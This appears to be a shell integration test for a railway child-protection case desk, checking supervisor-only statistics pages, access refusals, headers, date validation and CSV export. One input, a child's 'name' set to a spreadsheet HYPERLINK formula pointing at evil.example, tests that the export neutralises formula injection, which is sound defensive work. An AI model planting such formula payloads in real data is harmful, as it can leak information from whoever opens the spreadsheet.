#!/bin/sh
# 40: the supervisors' statistics (docs/desk.md "Statistics") against a
# real agent on a real mosquitto, reports from raksha-publish, read by
# headless chromium (desk-stats.py) and curl. Four reports (a Devanagari
# name, a name that is a spreadsheet formula, a drill), acks by two units,
# escalations by the agent's rule, a close: the page's every number equals
# `raksha-replay stats --format json` on the same database and period, its
# SVG has a group per unit and per day and no style attribute; the CSV
# export (python's urllib with the browser's session, python's csv) has a
# row per case, the columns of docs/schema.md, the Devanagari name intact
# and the formula neutralised; an officer gets 403 for both, and no link.
set -u
. "$RAKSHA_SOURCE_ROOT/tests/lib/desk.sh"
desk_suite curl
AGENT=
AGENT2=
cleanup() {
	[ -n "$AGENT2" ] && kill "$AGENT2" 2>/dev/null && wait "$AGENT2" 2>/dev/null
	desk_cleanup
}
trap cleanup EXIT
DESK_FILTERS="raksha/v1/+/+/+/report raksha/v1/+/+/+/ack raksha/v1/+/+/+/update raksha/v1/+/+/+/escalation
raksha/v1/+/+/+/agent/+"
# The agent escalates its unit's cases that no RPF acknowledges within 1 s.
RULE1='[escalate.quick]'
RULE2='match = raksha/v1/mp/bhopal/grp/report'
RULE3='after = 1s'
RULE4='unless_ack_from = rpf'
RULE5='publish = raksha/v1/mp/bhopal/grp/escalation'
RULE6='target = SP Railways Bhopal'
desk_conf "$RULE1" "$RULE2" "$RULE3" "$RULE4" "$RULE5" "$RULE6" > "$W/agent.conf"
desk_user asha --full-name "Asha Verma" --badge "GRP 1042" --role supervisor
desk_user ravi --full-name "Ravi Jain" --badge "GRP 2001"
desk_agent
desk_start "$RULE1" "$RULE2" "$RULE3" "$RULE4" "$RULE5" "$RULE6" ||
	bail "raksha-desk did not start: $(cat "$W/desk.log")"
# A second agent of the unit, with its own database, online for a while:
# the unit's share online is its two agents' together.
(DB=$W/agent2.db; agent_conf mp-bhopal-grp-2 "raksha/v1/mp/bhopal/grp/report" "outbox = $W/outbox2") > "$W/agent2.conf"
"$RAKSHA_AGENT" --config "$W/agent2.conf" --foreground > "$W/agent2.out" 2> "$W/agent2.err" &
AGENT2=$!
wait_rows "SELECT count(*) FROM messages WHERE kind = 'agent' AND topic LIKE '%/mp-bhopal-grp-2'" 1 ||
	bail "the second agent's presence did not arrive"
pub() { st=$1 rg=$2 ag=$3; shift 3; desk_pub --state "$st" --region "$rg" --agency "$ag" --unit "$ag $rg" "$@"; }
HOSTILE='=HYPERLINK("http://evil.example/?x","click")'
A=$(pub mp vidisha childline report --name "सीमा कुमारी" --age 9 --gender female --station BPL --train 12627)
B=$(pub mp vidisha childline report --name "$HOSTILE" --age 6 --gender male --station ET)
C=$(pub mp bhopal grp report --name "Meena Rai" --age 8 --gender female --station BPL)
D=$(pub mp bhopal grp report --name "Drill Child" --age 7 --gender male --exercise)
pub mp bhopal grp ack --report "$A" --state acting > /dev/null
pub mp itarsi rpf ack --report "$A" --state received > /dev/null
pub mp itarsi rpf ack --report "$B" --state received > /dev/null
pub mp bhopal grp ack --report "$D" --state acting > /dev/null
wait_rows "SELECT count(*) FROM messages WHERE kind = 'escalation'" 2 || bail "the agent escalated neither C nor D"
pub mp bhopal grp update --report "$C" --status closed --notes "reunited with her mother" > /dev/null
wait_rows "SELECT count(*) FROM cases WHERE status = 'closed'" 1 || bail "the agent did not take the close"
is "$(q "SELECT count(*) FROM messages WHERE kind = 'ack'")" 4 "the agent has the 4 acks"
kill "$AGENT2"
wait "$AGENT2"
AGENT2=
wait_rows "SELECT count(*) FROM messages WHERE kind = 'agent' AND topic LIKE '%/mp-bhopal-grp-2'" 2 ||
	bail "the second agent's offline did not arrive"
sleep 0.5

# raksha-replay stats' own table of days (the JSON's is compared below).
today=$(/usr/bin/python3 -c 'import time; print(time.strftime("%Y-%m-%d", time.gmtime(time.time() + 19800)))')
contains "$("$RAKSHA_REPLAY" stats --db "$DB" --since 2d)" "$(printf '%-10s %7d %7d %13d %13d' "$today" 3 1 1 0)" \
	"raksha-replay stats: today (IST) 3 opened, 1 closed, 1 drill opened, in its table of days"

# An officer: no link to the statistics, 403 for the page and the export.
rm -f "$W/jar"
login() {
	token=$(curl -s -c "$W/jar" "$URL/login" | sed -n 's/.*name="csrf" value="\([0-9a-f]*\)".*/\1/p')
	curl -s -b "$W/jar" -c "$W/jar" -o /dev/null --data-urlencode "csrf=$token" --data-urlencode "username=$1" \
		--data-urlencode password=desk-pass-1 "$URL/login"
}
code() { curl -s -b "$W/jar" -o "$W/page" -w '%{http_code}' "$URL$1"; }
is "$(code /stats)" 303 "without a session /stats leads to the login (303)"
is "$(code /stats.csv)" 303 "  and /stats.csv"
login ravi
is "$(code /cases)" 200 "an officer logged in"
is "$(grep -c 'href="/stats"' "$W/page")" 0 "  his pages have no Statistics link"
is "$(code /stats)" 403 "  /stats: 403"
contains "$(cat "$W/page")" "The statistics are for supervisors only" "  saying why"
is "$(code '/stats.csv?from=2026-01-01&to=2026-01-31')" 403 "  /stats.csv: 403"
contains "$(cat "$W/desk.log")" "GET /stats by ravi from 127.0.0.1 refused: not a supervisor" "  logged"
rm -f "$W/jar"
login asha
is "$(code '/stats?from=2026-02-31&to=2026-13-01')" 200 "a supervisor's /stats with dates that are none: the page"
contains "$(cat "$W/page")" 'id="from-error">Write a date as YYYY-MM-DD' "  with the error beside the first day"
contains "$(cat "$W/page")" 'id="to-error">Write a date as YYYY-MM-DD' "  and beside the last"
is "$(code '/stats?from=2026-12-01&to=2026-11-01')" 200 "a period backwards: the page"
contains "$(cat "$W/page")" "The first day is after the last day." "  saying so"
curl -s -D "$W/headers" -b "$W/jar" -o /dev/null "$URL/stats"
contains "$(cat "$W/headers")" "Content-Security-Policy: default-src 'self'" "/stats: CSP default-src 'self'"
contains "$(cat "$W/headers")" "Cache-Control: no-store" "  no-store"

export W BROKER_PORT RAKSHA_PUBLISH
desk_browser 60 desk-stats.py "$URL" asha desk-pass-1 "$DB" "$RAKSHA_REPLAY" "$A" "$B" "$C" "$D" "$HOSTILE"
is "$BROWSER_RC" 0 "the browser's part ran to its end ($BROWSER_S s)"
contains "$(cat "$W/desk.log")" "asha exported 4 case(s) of" "the export logged with the account"
desk_stop
is "$?" 0 "SIGTERM: the desk exits 0"
is "$(grep -c 'Sanitizer\|runtime error' "$W/desk.log")" 0 "  nothing from the sanitizers in its log"
done_testing
